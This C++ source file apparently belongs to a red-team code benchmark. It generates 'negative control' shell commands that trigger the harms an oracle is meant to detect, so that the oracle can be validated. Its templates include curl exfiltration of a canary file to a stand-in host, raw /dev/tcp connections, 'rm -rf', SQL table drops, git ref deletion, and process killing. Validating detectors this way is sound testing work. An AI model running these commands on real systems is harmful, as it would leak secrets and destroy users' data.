#include "proof/negative_control.h"

#include <algorithm>
#include <utility>

#include "corpus/oracle.h"

namespace redcode::proof {
namespace {

using corpus::Condition;
using corpus::Word;
using Command = std::vector<std::string>;

// A script whose arguments are $1, $2, ...
Command script(const char* text, std::vector<std::string> arguments) {
  Command command = {"bash", "-c", text, "control"};
  std::ranges::move(arguments, std::back_inserter(command));
  return command;
}

constexpr const char* create = R"sh(mkdir -p "${1%/*}"; echo control > "$1")sh";
constexpr const char* change =
    R"sh(if [ -d "$1" ]; then rm -r "$1"; else chmod u+w "$1"; fi; echo control >> "$1")sh";
constexpr const char* end_process = R"sh(pkill -f "^$1")sh";
constexpr const char* leave_process =
    R"sh(mkdir -p "${1%/*}"; cp /usr/bin/sleep "$1"
setsid "$1" 600 >/dev/null 2>&1 </dev/null & sleep 0.2)sh";
constexpr const char* talk = R"sh(exec 3<>"/dev/tcp/$1/$2")sh";
constexpr const char* send_packet = R"sh(echo control > "/dev/udp/$1/$2")sh";
constexpr const char* copy = R"sh(mkdir -p "${2%/*}"; cat "$1" >> "$2")sh";
constexpr const char* send_file =
    R"sh(curl -s -m 5 -o /dev/null --data-binary @"$1" "http://$2/")sh";
constexpr const char* write_text = R"sh(mkdir -p "${2%/*}"; printf '%s\n' "$1" >> "$2")sh";
constexpr const char* stop_process = R"sh(pkill -STOP -f "^$1")sh";
constexpr const char* drop_table = R"sh(sqlite3 "$1" "DROP TABLE $2")sh";
constexpr const char* drop_ref = R"sh(git -C "$1" update-ref -d "$2")sh";
constexpr const char* ask_often =
    R"sh(for i in $(seq "$2"); do curl -s -m 5 -o /dev/null "http://$1/"; done)sh";
constexpr const char* send_text = R"sh(curl -s -m 5 -o /dev/null --data-raw "$1" "http://$2/")sh";

// Where nothing else is said.
constexpr const char* some_file = "/home/dev/control.txt";
constexpr const char* some_host = "control.example";

std::string or_else(const std::string& value, const char* otherwise) {
  return value.empty() ? otherwise : value;
}

// A file that holds the canary; "" if none does.
std::string holder_of(const std::string& canary, const record::World& world) {
  const auto holds = [&canary](const std::string& content) {
    const std::vector<std::string> names = corpus::canaries_in(content);
    return std::ranges::find(names, canary) != names.end();
  };
  for (const record::SeededFile& file : world.files) {
    if (holds(file.content)) return file.path;
  }
  return holds(world.setup) && !world.makes.empty() ? world.makes.front() : "";
}

Command about_canary(const Condition& condition, const record::World& world) {
  const std::string holder = holder_of(condition.canary, world);
  if (holder.empty()) return {};
  if (condition.word == Word::canary_sent) {
    return script(send_file, {holder, or_else(condition.host, some_host)});
  }
  if (condition.word == Word::content_lost) return {"rm", "-rf", holder};
  if (condition.word == Word::served) {
    return script(copy, {holder, condition.root + "/control.txt"});
  }
  if (condition.word == Word::canary_in_file) {
    return script(copy, {holder, or_else(condition.path, some_file)});
  }
  return {"cat", holder};
}

Command about_file(const Condition& condition) {
  switch (condition.word) {
    case Word::file_created:
      return script(create, {condition.path});
    case Word::file_changed:
      return script(change, {condition.path});
    case Word::file_deleted:
      return {"rm", "-rf", condition.path};
    case Word::mode_opened:
      return {"chmod", corpus::mode_text(condition.mode | 0700U), condition.path};
    case Word::file_read:
      return {"cat", condition.path};
    case Word::program_executed:
      return {condition.path};
    case Word::table_gone:
      return script(drop_table, {condition.path, condition.table});
    case Word::content_lost:
      return condition.path.empty() ? Command{} : Command{"rm", "-rf", condition.path};
    case Word::others_let_in:
      return {"chmod", condition.access == "write" ? "o+w" : "o+r", condition.path};
    default:
      return {};
  }
}

std::string whole_ref(const std::string& ref) {
  return ref.starts_with("refs/") ? ref : "refs/heads/" + ref;
}

Command act(const Condition& condition, const record::World& world) {
  switch (condition.word) {
    case Word::process_ended:
      return script(end_process, {condition.program});
    case Word::process_left:
      return script(leave_process, {condition.program});
    case Word::name_looked_up:
      return {"getent", "hosts", condition.host};
    case Word::contacted:
    case Word::data_sent:
      return script(condition.word == Word::contacted ? talk : send_packet,
                    {condition.host, std::to_string(condition.port == 0 ? 80 : condition.port)});
    case Word::canary_sent:
    case Word::canary_in_file:
    case Word::canary_in_output:
    case Word::served:
      return about_canary(condition, world);
    case Word::process_stopped:
      return script(stop_process, {condition.program});
    case Word::process_gone:
      return script(end_process, {condition.program});
    case Word::left_running:
      return script(leave_process, {condition.path + "/control"});
    case Word::requests:
      return script(ask_often, {condition.host,
                                std::to_string(static_cast<int>(condition.at_least.value_or(2)))});
    case Word::ref_lost:
      return script(drop_ref, {condition.repository, whole_ref(condition.ref)});
    case Word::text_sent:
      return script(send_text, {condition.text, or_else(condition.host, some_host)});
    case Word::text_in_file:
      return script(write_text, {condition.text, or_else(condition.path, some_file)});
    default:
      return about_file(condition);
  }
}

// What makes the part at `index` fail where the others hold: it is left out, or, if it says what
// must not be, that is done first.
std::vector<Command> all_but(const Condition& all, std::size_t index, const record::World& world) {
  std::vector<Command> commands;
  const Condition& left_out = all.of.at(index);
  if (left_out.word == Word::none) commands = damage_nearby(left_out.of.front(), world);
  for (std::size_t i = 0; i < all.of.size(); ++i) {
    if (i != index)
      std::ranges::move(damage_nearby(all.of[i], world), std::back_inserter(commands));
  }
  return commands;
}

}  // namespace

std::vector<std::vector<Command>> half_deeds(const Condition& effect, const record::World& world) {
  std::vector<std::vector<Command>> ways;
  if (!combines(effect.word) || effect.word == Word::none) return ways;
  for (std::size_t i = 0; effect.of.size() > 1 && i < effect.of.size(); ++i) {
    std::vector<Command> way =
        effect.word == Word::all ? all_but(effect, i, world) : damage_nearby(effect.of[i], world);
    if (!way.empty()) ways.push_back(std::move(way));
  }
  return ways;
}

std::vector<std::vector<std::string>> damage_nearby(const Condition& condition,
                                                    const record::World& world) {
  if (condition.word == Word::none) return {};
  if (!combines(condition.word)) {
    Command command = act(condition, world);
    if (command.empty()) return {};
    return {std::move(command)};
  }
  std::vector<Command> commands;
  for (const Condition& part : condition.of) {
    std::ranges::move(damage_nearby(part, world), std::back_inserter(commands));
    // One of several ways is enough, and says more about the others' part in the oracle.
    if (condition.word == Word::any && !commands.empty()) break;
  }
  return commands;
}

}  // namespace redcode::proof
